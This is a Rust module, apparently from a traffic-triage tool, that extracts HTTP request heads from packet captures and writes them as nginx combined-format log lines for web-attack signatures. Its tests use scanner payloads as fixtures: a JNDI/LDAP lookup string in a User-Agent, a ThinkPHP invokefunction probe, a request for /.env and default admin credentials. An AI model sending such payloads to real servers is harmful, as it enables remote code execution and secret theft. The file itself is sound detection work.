//! HTTP requests carried in a packet capture, for the web signatures.
//!
//! A capture of a server's traffic holds what its access log holds and more: the
//! request head a client sent on each TCP connection (request line, `Host`,
//! `User-Agent`, `Referer`, `X-Forwarded-For`) and the status line the server answered
//! with. [`HttpExtractor`] collects the heads from client segments in sequence order
//! (retransmissions are skipped, a gap ends the head), on any port (recognised by the
//! request line, not the port), with several requests per connection (keep-alive and
//! pipelining); each answer's status goes to the oldest request on that connection
//! still waiting for one. [`HttpRecord::write_combined`] writes a record as an access
//! log line in the combined format, with nginx's escaping, so that captures go through
//! the same parser, signatures and assessment as logs.
//!
//! Memory is bounded: heads are cut at [`MAX_HEAD`] bytes, at most [`MAX_HTTP_FLOWS`]
//! connections are followed (the table is cleared when full) and at most
//! [`MAX_RECORDS`] requests are kept (later ones are counted in
//! [`HttpExtractor::dropped`]).

use scantriage_core::Timestamp;
use std::collections::{HashMap, VecDeque};
use std::net::IpAddr;

/// Bytes of one request head kept, at most.
pub const MAX_HEAD: usize = 16 * 1024;
/// Connections followed at once, at most.
pub const MAX_HTTP_FLOWS: usize = 65_536;
/// Requests kept from one capture, at most.
pub const MAX_RECORDS: usize = 1_000_000;
/// Requests of one connection waiting for their answer, at most.
const MAX_WAITING: usize = 64;

/// One HTTP request seen in a capture.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct HttpRecord {
    /// Time of the request's first segment.
    pub time: Timestamp,
    /// The client's address.
    pub source: IpAddr,
    /// The server's address.
    pub dest: IpAddr,
    /// The server's port.
    pub dport: u16,
    /// The request line (`GET /x HTTP/1.1`), as sent.
    pub request_line: Vec<u8>,
    /// The `Host` header, empty when absent.
    pub host: Vec<u8>,
    /// The `User-Agent` header, empty when absent.
    pub user_agent: Vec<u8>,
    /// The `Referer` header, empty when absent.
    pub referer: Vec<u8>,
    /// The `X-Forwarded-For` header, empty when absent.
    pub forwarded_for: Vec<u8>,
    /// The user name of `Authorization: Basic` credentials, empty when absent.
    pub remote_user: Vec<u8>,
    /// The answer's status, 0 when the capture holds no answer.
    pub status: u16,
}

/// Connection key: client address and port, server address and port.
type Conn = (IpAddr, u16, IpAddr, u16);

#[derive(Debug, Default)]
struct Flow {
    /// The head being collected (empty when none is).
    head: Vec<u8>,
    /// Time of the head's first segment.
    started: Timestamp,
    /// Sequence number expected next from the client.
    next_seq: u32,
    /// Records of this connection waiting for their answer, oldest first.
    waiting: VecDeque<usize>,
}

/// Collects HTTP requests from TCP segments; feed segments in capture order.
#[derive(Debug, Default)]
pub struct HttpExtractor {
    flows: HashMap<Conn, Flow, foldhash::fast::RandomState>,
    /// The requests, in the order their heads were complete.
    pub records: Vec<HttpRecord>,
    /// Requests not kept because [`MAX_RECORDS`] was reached.
    pub dropped: u64,
    /// Times the connection table was cleared because [`MAX_HTTP_FLOWS`] was reached.
    pub flow_resets: u64,
}

/// Methods accepted without an `HTTP/` version on the request line.
const METHODS: [&[u8]; 12] = [
    b"GET",
    b"POST",
    b"HEAD",
    b"PUT",
    b"DELETE",
    b"OPTIONS",
    b"PATCH",
    b"CONNECT",
    b"TRACE",
    b"PROPFIND",
    b"MKCOL",
    b"MOVE",
];

/// True when `p` starts like an HTTP request line: an upper-case method token, one
/// space, a target, and `HTTP/` on the line or a well-known method.
fn starts_request(p: &[u8]) -> bool {
    let Some(sp) = p.iter().take(17).position(|&b| b == b' ') else {
        return false;
    };
    let method = &p[..sp];
    if method.len() < 3
        || !method
            .iter()
            .all(|b| b.is_ascii_uppercase() || *b == b'-' || *b == b'_')
        || !p.get(sp + 1).is_some_and(|b| b.is_ascii_graphic())
    {
        return false;
    }
    let line_end = p.iter().position(|&b| b == b'\n').unwrap_or(p.len());
    METHODS.contains(&method) || memchr::memmem::find(&p[..line_end], b" HTTP/").is_some()
}

/// Where the head ends (after its blank line), if it is complete.
fn head_end(h: &[u8]) -> Option<usize> {
    let crlf = memchr::memmem::find(h, b"\r\n\r\n").map(|i| i + 4);
    let lf = memchr::memmem::find(h, b"\n\n").map(|i| i + 2);
    match (crlf, lf) {
        (Some(a), Some(b)) => Some(a.min(b)),
        (a, b) => a.or(b),
    }
}

/// The status code of a response that starts `HTTP/1.x NNN`.
fn response_status(p: &[u8]) -> Option<u16> {
    if !p.starts_with(b"HTTP/") {
        return None;
    }
    let sp = p.iter().take(12).position(|&b| b == b' ')?;
    let code = p.get(sp + 1..sp + 4)?;
    if !code.iter().all(u8::is_ascii_digit) {
        return None;
    }
    std::str::from_utf8(code).ok()?.parse().ok()
}

impl HttpExtractor {
    /// Takes one TCP segment from `src:sport` to `dst:dport` with sequence number `seq`;
    /// `closing` is true for FIN or RST.
    #[allow(clippy::too_many_arguments)]
    pub fn segment(
        &mut self,
        time: Timestamp,
        src: IpAddr,
        sport: u16,
        dst: IpAddr,
        dport: u16,
        seq: u32,
        closing: bool,
        payload: &[u8],
    ) {
        let conn = (src, sport, dst, dport);
        if !payload.is_empty() {
            // An answer from the server of a connection we follow?
            if let Some(code) = response_status(payload) {
                if let Some(f) = self.flows.get_mut(&(dst, dport, src, sport)) {
                    if let Some(i) = f.waiting.pop_front() {
                        self.records[i].status = code;
                    }
                    return;
                }
            }
            let collecting = self.flows.get(&conn).is_some_and(|f| !f.head.is_empty());
            if collecting {
                let f = self.flows.get_mut(&conn).expect("checked");
                let ahead = seq.wrapping_sub(f.next_seq);
                if ahead == 0 {
                    let room = MAX_HEAD.saturating_sub(f.head.len());
                    f.head
                        .extend_from_slice(&payload[..payload.len().min(room)]);
                    f.next_seq = seq.wrapping_add(payload.len() as u32);
                } else if ahead < 1 << 31 {
                    // A gap: a segment is missing; what was collected is the head.
                    self.finish_head(conn);
                }
                // else: a retransmission of bytes already taken.
            } else if starts_request(payload) {
                if self.flows.len() >= MAX_HTTP_FLOWS && !self.flows.contains_key(&conn) {
                    self.flows.clear();
                    self.flow_resets += 1;
                }
                let f = self.flows.entry(conn).or_default();
                f.head.clear();
                f.head
                    .extend_from_slice(&payload[..payload.len().min(MAX_HEAD)]);
                f.started = time;
                f.next_seq = seq.wrapping_add(payload.len() as u32);
            }
            if let Some(f) = self.flows.get(&conn) {
                if !f.head.is_empty() && (head_end(&f.head).is_some() || f.head.len() >= MAX_HEAD) {
                    self.finish_head(conn);
                }
            }
        }
        if closing {
            self.finish_head(conn);
            let server = (dst, dport, src, sport);
            for c in [conn, server] {
                if self.flows.get(&c).is_some_and(|f| f.waiting.is_empty()) {
                    self.flows.remove(&c);
                }
            }
        }
    }

    /// Turns the head collected on `conn` (if any) into a record.
    fn finish_head(&mut self, conn: Conn) {
        let Some(f) = self.flows.get_mut(&conn) else {
            return;
        };
        if f.head.is_empty() {
            return;
        }
        let head = std::mem::take(&mut f.head);
        let end = head_end(&head).unwrap_or(head.len());
        let head = &head[..end];
        let mut lines = head
            .split(|&b| b == b'\n')
            .map(|l| l.strip_suffix(b"\r").unwrap_or(l));
        let request_line = lines.next().unwrap_or_default().to_vec();
        let mut rec = HttpRecord {
            time: f.started,
            source: conn.0,
            dest: conn.2,
            dport: conn.3,
            request_line,
            host: Vec::new(),
            user_agent: Vec::new(),
            referer: Vec::new(),
            forwarded_for: Vec::new(),
            remote_user: Vec::new(),
            status: 0,
        };
        for line in lines {
            let Some(colon) = line.iter().position(|&b| b == b':') else {
                continue;
            };
            let name = &line[..colon];
            let value = line[colon + 1..].trim_ascii();
            if name.eq_ignore_ascii_case(b"authorization") && rec.remote_user.is_empty() {
                rec.remote_user = basic_user(value);
                continue;
            }
            let slot = if name.eq_ignore_ascii_case(b"user-agent") {
                &mut rec.user_agent
            } else if name.eq_ignore_ascii_case(b"referer") {
                &mut rec.referer
            } else if name.eq_ignore_ascii_case(b"host") {
                &mut rec.host
            } else if name.eq_ignore_ascii_case(b"x-forwarded-for") {
                &mut rec.forwarded_for
            } else {
                continue;
            };
            if slot.is_empty() {
                slot.extend_from_slice(value);
            }
        }
        if self.records.len() >= MAX_RECORDS {
            self.dropped += 1;
            return;
        }
        if f.waiting.len() >= MAX_WAITING {
            f.waiting.pop_front();
        }
        f.waiting.push_back(self.records.len());
        self.records.push(rec);
    }

    /// Ends the capture: heads still being collected become records. Returns the
    /// records in time order.
    pub fn finish(mut self) -> Vec<HttpRecord> {
        let open: Vec<Conn> = self
            .flows
            .iter()
            .filter(|(_, f)| !f.head.is_empty())
            .map(|(c, _)| *c)
            .collect();
        for c in open {
            self.finish_head(c);
        }
        let mut records = self.records;
        records.sort_by_key(|r| r.time);
        records
    }
}

/// The user name in `Basic BASE64(user:password)` credentials, empty for other schemes
/// or bad encoding.
fn basic_user(value: &[u8]) -> Vec<u8> {
    let Some(b64) = value
        .get(..6)
        .filter(|p| p.eq_ignore_ascii_case(b"basic "))
        .map(|_| value[6..].trim_ascii())
    else {
        return Vec::new();
    };
    let mut bits = 0u32;
    let mut n = 0;
    let mut out = Vec::new();
    for &c in b64 {
        let v = match c {
            b'A'..=b'Z' => c - b'A',
            b'a'..=b'z' => c - b'a' + 26,
            b'0'..=b'9' => c - b'0' + 52,
            b'+' => 62,
            b'/' => 63,
            b'=' => break,
            _ => return Vec::new(),
        };
        bits = (bits << 6) | u32::from(v);
        n += 6;
        if n >= 8 {
            n -= 8;
            out.push((bits >> n) as u8);
        }
    }
    match out.iter().position(|&b| b == b':') {
        Some(i) => {
            out.truncate(i);
            out
        }
        None => Vec::new(),
    }
}

/// Appends `v` with nginx's access-log escaping: `"`, `\`, control bytes and bytes
/// above 0x7e as `\xHH`; `-` when empty.
fn push_escaped(out: &mut Vec<u8>, v: &[u8]) {
    if v.is_empty() {
        out.push(b'-');
        return;
    }
    for &b in v {
        if b == b'"' || b == b'\\' || !(0x20..0x7f).contains(&b) {
            out.extend_from_slice(format!("\\x{b:02X}").as_bytes());
        } else {
            out.push(b);
        }
    }
}

const MONTHS: [&str; 12] = [
    "Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec",
];

impl HttpRecord {
    /// Appends the record as one combined-format access log line (with `\n`): client,
    /// time, request line, status (0 when unanswered), size 0, referer, user agent and
    /// the forwarded-for list when there is one.
    pub fn write_combined(&self, out: &mut Vec<u8>) {
        let rfc = self.time.to_string(); // YYYY-MM-DDTHH:MM:SS[.mmm]Z
        let (y, m, d) = (&rfc[0..4], &rfc[5..7], &rfc[8..10]);
        let month = m
            .parse::<usize>()
            .ok()
            .and_then(|m| MONTHS.get(m.wrapping_sub(1)))
            .copied()
            .unwrap_or("Jan");
        out.extend_from_slice(format!("{} - ", self.source).as_bytes());
        // The user name field is space-separated: escape spaces too.
        if self.remote_user.is_empty() {
            out.push(b'-');
        } else {
            for &b in &self.remote_user {
                if b.is_ascii_graphic() && b != b'"' && b != b'\\' && b != b'[' {
                    out.push(b);
                } else {
                    out.extend_from_slice(format!("\\x{b:02X}").as_bytes());
                }
            }
        }
        let line = format!(" [{d}/{month}/{y}:{} +0000] \"", &rfc[11..19]);
        out.extend_from_slice(line.as_bytes());
        push_escaped(out, &self.request_line);
        out.extend_from_slice(format!("\" {} 0 \"", self.status).as_bytes());
        push_escaped(out, &self.referer);
        out.extend_from_slice(b"\" \"");
        push_escaped(out, &self.user_agent);
        out.push(b'"');
        if !self.forwarded_for.is_empty() {
            out.extend_from_slice(b" \"");
            push_escaped(out, &self.forwarded_for);
            out.push(b'"');
        }
        out.push(b'\n');
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ip(s: &str) -> IpAddr {
        s.parse().unwrap()
    }

    fn t(ms: i64) -> Timestamp {
        Timestamp {
            unix_ms: 1_764_028_800_000 + ms,
            offset_min: 0,
        }
    }

    #[test]
    fn heads_across_segments_with_retransmission_and_answers() {
        let (c, s) = (ip("198.51.100.7"), ip("192.0.2.1"));
        let mut x = HttpExtractor::default();
        let a = b"GET /index.php?s=/index/\\think\\app/invokefunction HTTP/1.1\r\nHost: x\r\n";
        let b = b"User-Agent: ${jndi:ldap://a/b}\r\nReferer: http://r/\r\n\r\n";
        x.segment(t(0), c, 40000, s, 80, 1000, false, a);
        x.segment(t(1), c, 40000, s, 80, 1000, false, a); // retransmitted
        x.segment(t(2), c, 40000, s, 80, 1000 + a.len() as u32, false, b);
        x.segment(
            t(3),
            s,
            80,
            c,
            40000,
            5,
            false,
            b"HTTP/1.1 404 Not Found\r\n\r\n",
        );
        // Keep-alive: a second request on the same connection, never answered.
        let n = 1000 + (a.len() + b.len()) as u32;
        x.segment(
            t(4),
            c,
            40000,
            s,
            80,
            n,
            false,
            b"HEAD /.env HTTP/1.1\r\n\r\n",
        );
        // Body bytes of a POST are not a request.
        x.segment(t(5), c, 40001, s, 8080, 1, false, b"user=a&pass=b");
        // A non-HTTP protocol is not taken.
        x.segment(t(6), c, 40002, s, 22, 1, false, b"SSH-2.0-Go\r\n");
        x.segment(t(7), c, 40000, s, 80, n + 23, true, b"");
        let r = x.finish();
        assert_eq!(r.len(), 2, "{r:?}");
        assert_eq!(
            r[0].request_line,
            b"GET /index.php?s=/index/\\think\\app/invokefunction HTTP/1.1"
        );
        assert_eq!(r[0].user_agent, b"${jndi:ldap://a/b}");
        assert_eq!(r[0].referer, b"http://r/");
        assert_eq!(r[0].host, b"x");
        assert_eq!(r[0].status, 404);
        assert_eq!(r[1].request_line, b"HEAD /.env HTTP/1.1");
        assert_eq!(r[1].status, 0);
        let mut line = Vec::new();
        r[0].write_combined(&mut line);
        assert_eq!(
            String::from_utf8(line).unwrap(),
            "198.51.100.7 - - [25/Nov/2025:00:00:00 +0000] \"GET /index.php?s=/index/\\x5Cthink\\x5Capp/invokefunction HTTP/1.1\" 404 0 \"http://r/\" \"${jndi:ldap://a/b}\"\n"
        );
    }

    #[test]
    fn a_gap_ends_the_head_and_a_head_without_end_is_kept_at_the_end() {
        let (c, s) = (ip("2001:db8::1"), ip("2001:db8::2"));
        let mut x = HttpExtractor::default();
        x.segment(
            t(0),
            c,
            1,
            s,
            80,
            10,
            false,
            b"POST /cgi-bin/x HTTP/1.1\r\nUser-Agent: a",
        );
        x.segment(t(1), c, 1, s, 80, 9999, false, b"zzz");
        x.segment(
            t(2),
            c,
            2,
            s,
            80,
            10,
            false,
            b"GET /unfinished HTTP/1.1\r\n",
        );
        let r = x.finish();
        assert_eq!(r.len(), 2);
        assert_eq!(r[0].user_agent, b"a");
        assert_eq!(r[1].request_line, b"GET /unfinished HTTP/1.1");
    }

    #[test]
    fn basic_credentials_name_the_user() {
        assert_eq!(basic_user(b"Basic YWxpY2U6c2VjcmV0"), b"alice");
        assert_eq!(basic_user(b"basic cm9vdDo="), b"root");
        assert!(basic_user(b"Bearer abc").is_empty());
        assert!(basic_user(b"Basic !!!").is_empty());
        let (c, s) = (ip("198.51.100.7"), ip("192.0.2.1"));
        let mut x = HttpExtractor::default();
        let head = b"GET /admin/ HTTP/1.1\r\nAuthorization: Basic YWRtaW46YWRtaW4=\r\n\r\n";
        x.segment(t(0), c, 1, s, 80, 0, false, head);
        x.segment(
            t(1),
            s,
            80,
            c,
            1,
            0,
            false,
            b"HTTP/1.1 401 Unauthorized\r\n",
        );
        let r = x.finish();
        let mut line = Vec::new();
        r[0].write_combined(&mut line);
        let line = String::from_utf8(line).unwrap();
        assert!(
            line.starts_with("198.51.100.7 - admin [25/Nov/2025"),
            "{line}"
        );
        assert!(line.contains("\" 401 0 "), "{line}");
    }

    #[test]
    fn request_lines_are_recognised_strictly() {
        assert!(starts_request(b"GET / HTTP/1.1\r\n"));
        assert!(starts_request(b"PROPFIND /dav/"));
        assert!(starts_request(b"FOO-BAR /x HTTP/1.0\r\n"));
        assert!(!starts_request(b"FOO-BAR /x\r\n"));
        assert!(!starts_request(b"get / HTTP/1.1"));
        assert!(!starts_request(b"GET  / HTTP/1.1"));
        assert!(!starts_request(b"\x16\x03\x01\x00"));
        assert_eq!(response_status(b"HTTP/1.1 200 OK\r\n"), Some(200));
        assert_eq!(response_status(b"HTTP/1.0 30x"), None);
    }

    #[test]
    fn records_and_connections_stay_bounded() {
        let mut x = HttpExtractor::default();
        let s = ip("192.0.2.1");
        for i in 0..(MAX_HTTP_FLOWS as u32 + 10) {
            let c = IpAddr::from(std::net::Ipv4Addr::from(0x0a00_0000 + i));
            x.segment(t(0), c, 1, s, 80, 0, false, b"GET /a HTTP/1.1\r\n");
        }
        assert!(x.flows.len() <= MAX_HTTP_FLOWS);
        assert_eq!(x.flow_resets, 1);
    }
}
